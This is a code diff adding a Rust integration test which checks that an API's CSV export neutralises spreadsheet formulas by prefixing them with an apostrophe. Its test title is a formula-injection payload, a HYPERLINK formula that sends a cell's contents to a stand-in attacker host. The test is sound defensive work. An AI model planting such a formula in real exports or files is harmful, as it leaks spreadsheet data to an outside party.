@@ -314,3 +314,22 @@ both_backends!(
         assert!(mismatches.is_empty(), "{}", mismatches.join("\n"));
     }
 );
+
+both_backends!(
+    async fn a_csv_export_never_hands_a_spreadsheet_a_formula(backend) {
+        let Some(app) = TestApp::spawn(backend).await else { return };
+        let token = tests::token_for(&app, "provincie", "provincial_network", "read write:practice-examples", &[]).await;
+        let title = "=HYPERLINK(\"http://aanvaller.example/?x=\"&A1,\"Klik\")";
+        let (status, _, _) = call(&app, &token, reqwest::Method::POST, "/api/v1/practice-examples", Some(json!({"title": title, "summary": "-1+2", "status": "published"}))).await;
+        assert_eq!(status, StatusCode::CREATED);
+        let text = app.client.get(app.url("/api/v1/practice-examples")).bearer_auth(&token).header("accept", "text/csv")
+            .send().await.expect("csv").text().await.expect("text");
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        let headers = reader.headers().expect("a header").clone();
+        let row = reader.records().next().expect("a row").expect("a record");
+        let cell = |name: &str| row[headers.iter().position(|h| h == name).expect(name)].to_owned();
+        assert_eq!(cell("title"), format!("'{title}"), "the formula is text");
+        assert_eq!(cell("summary"), "'-1+2");
+        assert_eq!(cell("version"), "1", "numbers stay numbers");
+    }
+);
